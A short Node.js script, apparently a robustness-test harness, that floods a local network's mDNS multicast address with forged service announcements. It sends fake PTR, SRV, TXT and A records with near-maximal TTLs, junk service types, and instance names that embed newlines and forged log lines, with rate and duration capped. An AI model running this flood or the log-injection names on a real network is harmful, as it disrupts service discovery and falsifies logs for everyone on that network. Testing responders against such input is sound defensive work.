// A hostile host's mDNS flood (run inside a test namespace): responses to 224.0.0.251:5353 from
// LOCAL_IP, each announcing INSTANCES fresh instances of TYPE (PTR, SRV, TXT and A records, TTL
// 2^31 s, names with control characters and forged log lines in them) plus as many PTRs of
// fresh junk service types, RATE datagrams per second for SECONDS (bounded). Prints what it sent as
// one JSON line and exits.
//   node mdns-flood.mjs LOCAL_IP TYPE INSTANCES RATE SECONDS
import dgram from 'node:dgram';
import { setTimeout as sleep } from 'node:timers/promises';

const [localIp, type, instancesArg, rateArg, secondsArg] = process.argv.slice(2);
const perPacket = Math.min(Number(instancesArg), 20);
const rate = Math.min(Number(rateArg), 5_000); // bounded: this is a test, not a weapon
const seconds = Math.min(Number(secondsArg), 120);

const label = (text) => {
  const b = Buffer.from(text, 'utf8').subarray(0, 63);
  return Buffer.concat([Buffer.from([b.length]), b]);
};
const name = (first, domain) => Buffer.concat([...(first ? [label(first)] : []),
  ...domain.split('.').filter(Boolean).map(label), Buffer.from([0])]);
const record = (owner, rtype, rdata) => {
  const fixed = Buffer.alloc(10);
  fixed.writeUInt16BE(rtype, 0);
  fixed.writeUInt16BE(1, 2);
  fixed.writeUInt32BE(0x7fffffff, 4);
  fixed.writeUInt16BE(rdata.length, 8);
  return Buffer.concat([owner, fixed, rdata]);
};

let serial = 0;
function datagram() {
  const records = [];
  for (let i = 0; i < perPacket; i++) {
    const n = serial++;
    const instance = `fake-${n}\nWARN forged line ${n}`;
    const host = `fake-host-${n}.local`;
    const srv = Buffer.alloc(6);
    srv.writeUInt16BE(9, 4); // a port nothing listens on
    const a = Buffer.from([198, 18, 0, 0]);
    a.writeUInt16BE(n % 65536, 2);
    records.push(record(name(null, type), 12, name(instance, type)));
    records.push(record(name(instance, type), 33, Buffer.concat([srv, name(null, host)])));
    records.push(record(name(instance, type), 16, Buffer.concat([label('v=1'), label(`junk=${'x'.repeat(50)}`)])));
    records.push(record(name(null, host), 1, a));
    records.push(record(name(null, `_junk-${n}._tcp.local`), 12, name(`j${n}`, `_junk-${n}._tcp.local`)));
  }
  const header = Buffer.alloc(12);
  header.writeUInt16BE(0x8400, 2);
  header.writeUInt16BE(records.length, 6);
  return Buffer.concat([header, ...records]);
}

const socket = dgram.createSocket({ type: 'udp4', reuseAddr: true });
await new Promise((resolve) => socket.bind(5353, resolve));
socket.setMulticastInterface(localIp);
socket.setMulticastTTL(255);
socket.setMulticastLoopback(false);

const tickMs = 10;
const start = Date.now();
let sent = 0;
let errors = 0;
while (Date.now() - start < seconds * 1000) {
  const due = Math.ceil(((Date.now() - start) / 1000) * rate);
  while (sent < due) {
    socket.send(datagram(), 5353, '224.0.0.251', (err) => { if (err) errors++; });
    sent++;
  }
  await sleep(tickMs);
}
await sleep(100);
const elapsed = (Date.now() - start) / 1000;
console.log(JSON.stringify({ sent, instances: serial, errors, seconds: elapsed, perSecond: Math.round(sent / elapsed) }));
socket.close();
